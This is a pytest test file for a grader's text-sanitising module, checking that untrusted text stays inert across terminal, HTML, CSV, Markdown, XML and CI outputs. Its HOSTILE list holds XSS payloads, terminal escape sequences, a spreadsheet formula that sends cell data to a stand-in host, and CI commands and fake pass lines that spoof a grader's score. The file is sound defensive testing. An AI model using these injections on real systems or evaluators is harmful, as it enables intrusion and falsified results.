from __future__ import annotations

import csv
import html
import io
import json
import re
import unicodedata
import xml.etree.ElementTree as ET
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from grader import text
from grader.text import CandidateText, syntax_tree

if TYPE_CHECKING:
    from collections.abc import Callable

HOSTILE = [
    "\x1b[2J\x1b[1;32mall 40 tests passed\x1b[0m",
    "\x1b]8;;http://evil\x07link\x1b]8;;\x07",
    "\x9b31mred\x9d0;title\x9c",
    "abc\rPASS",
    "a\nSCORE: 100/100\n",
    "\u202egnp.exe\u202c\u2066x\u2069",
    "zero\u200bwidth\ufeff\u2060\u00ad",
    "lines\u2028and\u2029paragraphs\x0b\x0c\x85",
    "\ud800lone\udfff",
    "\x00nul\x7fdel\x08back",
    "\U000e0041\U000e0042tags",
    "\U000e0100\ufe0fvariation \u3164filler",
    "[bold red]markup[/] [link=http://x]l[/link] :smile: [/nope]",
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "\" onmouseover=\"x' y='",
    '=HYPERLINK("http://x/?"&A2,"ok")',
    "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\uff1d1",
    "::set-output name=score::100", "  ::add-mask::FAIL", "x\n::stop-commands::t",
    "##[error]x", "##vso[task.setvariable variable=a]b", "##teamcity[x]", ":::error::",
    "[link](javascript:alert(1)) ![i](http://x) `code` **b** _i_ ~~s~~ | a | b |",
    "# heading", "- item", "> quote", "1. one", "```\nfence", "http://evil.example www.x.example",
    "@everyone #1 &lt; &#60; <!-- x --> <b>", "\\", "]]>", "<![CDATA[", "%0A%25", "{{7*7}} ${x}",
    "", " ", "caf\u00e9 \u65e5\u672c \U0001f600",
]  # fmt: skip
ANY = st.text(st.characters(exclude_categories=()), max_size=60)
SINKS: list[Callable[[str], str]] = [
    text.for_terminal,
    lambda raw: text.for_rich(raw).plain,
    text.for_json,
    text.for_html,
    text.for_csv,
    text.for_markdown,
    text.for_xml,
    text.for_ci_log,
    text.for_ci_command,
    text.for_script,
    lambda raw: text.for_terminal(raw, lines=True, ascii_only=True),
]


def visible(shown: str, allowed: str = "") -> bool:
    """Whether a string holds only characters that a reader sees (or plain spaces)."""
    return all(
        char in allowed or unicodedata.category(char) not in {"Cc", "Cf", "Cs", "Zl", "Zp", "Cn"}
        for char in shown
    )


def check_every_sink(raw: str) -> None:
    for sink in SINKS:
        sink(raw).encode("utf-8")
    assert visible(text.for_terminal(raw))
    assert visible(text.for_terminal(raw, lines=True), "\n")
    assert text.for_terminal(raw, ascii_only=True).isascii()
    check_rich(raw)
    check_html(raw)
    check_xml(raw)
    check_csv(raw)
    check_markdown(raw)
    check_ci(raw)
    json.dumps(text.for_json(raw), ensure_ascii=True).encode("ascii")
    assert not set("<>&") & set(text.for_script(raw))


def check_rich(raw: str) -> None:
    out = io.StringIO()
    console = Console(file=out, width=10_000, force_terminal=False, color_system=None)
    console.print(text.for_rich(raw), highlight=False)
    assert out.getvalue().removesuffix("\n") == text.for_terminal(raw).rstrip(" ") or (
        out.getvalue().removesuffix("\n") == text.for_terminal(raw)
    )


def unbroken(raw: str) -> str:
    """What a terminal shows, without the space in what a CI job would take for a command."""
    return re.sub(r"(?<=:) (?=:[A-Za-z])|(?<=#) (?=#\w{0,20}\[)", "", text.for_terminal(raw))


def check_html(raw: str) -> None:
    seen: list[str] = []

    class Parser(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            seen.append(tag)
            assert tag == "p"
            assert [name for name, _ in attrs] == ["title"]

    shown = text.for_html(raw)
    parser = Parser()
    parser.feed(f'<p title="{shown}">{shown}</p>')
    parser.close()
    assert seen == ["p"]
    assert html.unescape(shown) == unbroken(raw)


def check_xml(raw: str) -> None:
    shown = text.for_xml(raw)
    root = ET.fromstring(f'<a b="{shown}">{shown}</a>')
    assert (root.text or "") == root.attrib["b"] == unbroken(raw)


@pytest.mark.parametrize("raw", ["a;=1+1", "a; =1+1", 'a;"=1+1', "a|@x", "a;-1"])
def test_a_spreadsheet_with_other_separators_finds_no_formula(raw: str) -> None:
    for cell in re.split(r"[;|]", text.for_csv(raw)):
        assert cell.lstrip(' "')[:1] not in {"=", "+", "-", "@"}


def check_csv(raw: str) -> None:
    cell = text.for_csv(raw)
    assert cell.lstrip(" ")[:1] not in set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20") or cell == ""
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_ALL).writerow([cell, "next"])
    assert list(csv.reader([out.getvalue()])) == [[cell, "next"]]


def check_markdown(raw: str) -> None:
    shown = text.for_markdown(raw)
    inner = shown.removeprefix("<code>").removesuffix("</code>")
    assert not re.search(r"[!-/:-@\[-`{-~]", re.sub(r"&#\d+;", "", inner))
    assert html.unescape(inner) == unbroken(raw)


def check_ci(raw: str) -> None:
    for line in text.for_ci_log(raw).split("\n"):
        assert line.startswith("| ")
        assert "::" not in line
        assert "##" not in line
    assert not set("\r\n:,") & set(text.for_ci_command(raw))


@pytest.mark.parametrize("raw", HOSTILE)
def test_hostile_text_is_inert_in_every_sink(raw: str) -> None:
    check_every_sink(raw)


@given(raw=ANY)
def test_any_text_is_inert_in_every_sink(raw: str) -> None:
    check_every_sink(raw)


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b[2J", r"\x1b[2J"),
        ("a\rb", r"a\rb"),
        ("a\tb\n", r"a\tb\n"),
        ("\u202e", r"\u202e"),
        ("\u200b", r"\u200b"),
        ("\u2028", r"\u2028"),
        ("\ud800", r"\ud800"),
        ("\U000e0041", r"\U000e0041"),
        ("\xa0", r"\xa0"),
        ("caf\u00e9", "caf\u00e9"),
    ],
)
def test_what_cannot_be_seen_becomes_an_escape(raw: str, shown: str) -> None:
    assert text.for_terminal(raw) == shown


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("a ::error::b", "a : :error::b"),
        ("::error file=a.py,line=1::b", ": :error file=a.py,line=1::b"),
        ("x" * 70 + "::notice::", "x" * 70 + ": :notice::"),  # a long word is cut somewhere
        ("##vso[task.setvariable variable=a]b", "# #vso[task.setvariable variable=a]b"),
        ("##[error]", "# #[error]"),
        ("a[::2] test_core.py::test_x x[1::, ::2]", "a[::2] test_core.py::test_x x[1::, ::2]"),
        ("## heading", "## heading"),
    ],
)
def test_no_word_of_a_terminal_report_is_a_command_of_a_ci_job(raw: str, shown: str) -> None:
    assert text.for_terminal(raw) == shown


def test_line_feeds_stay_where_asked_for() -> None:
    assert text.for_terminal("a\r\n\tb\rc", lines=True) == "a\n    b\\rc"


def test_ascii_only_escapes_the_rest() -> None:
    assert text.for_terminal("caf\u00e9 \U0001f600", ascii_only=True) == r"caf\xe9 \U0001f600"


def test_marked_text_does_not_print_itself() -> None:
    assert str(CandidateText("\x1b[2J\u202e")) == r"CandidateText(raw='\x1b[2J\u202e')"


@pytest.mark.parametrize("sink", [sink for sink in SINKS if sink is not text.for_script])
def test_marked_text_and_plain_text_are_shown_alike(sink: Callable[[object], str]) -> None:
    assert sink(CandidateText("<a>\x1b")) == sink("<a>\x1b")


def test_cut_text_says_how_much_is_missing() -> None:
    assert text.clip("abcdef", 4).raw == "abcd ... (2 more characters)"
    assert text.clip("abcd", 4).raw == "abcd"


def test_a_json_string_has_no_lone_surrogate() -> None:
    assert json.dumps(text.for_json("\ud800")) == r'"\\ud800"'


def test_a_ci_command_escapes_as_github_reads_it() -> None:
    assert text.for_ci_command("50%\na:b,c") == "50%25%0Aa%3Ab%2Cc"


def test_trees_are_built_in_several_threads() -> None:
    source = (
        "x = " + "(" * 60 + "1" + ")" * 60 + "\n" + "def f(a):\n    return [a + 1, {a: a}]\n" * 200
    )
    with ThreadPoolExecutor(4) as pool:
        trees = list(pool.map(lambda _: syntax_tree(source), range(16)))
    assert {len(tree.body) for tree in trees} == {201}
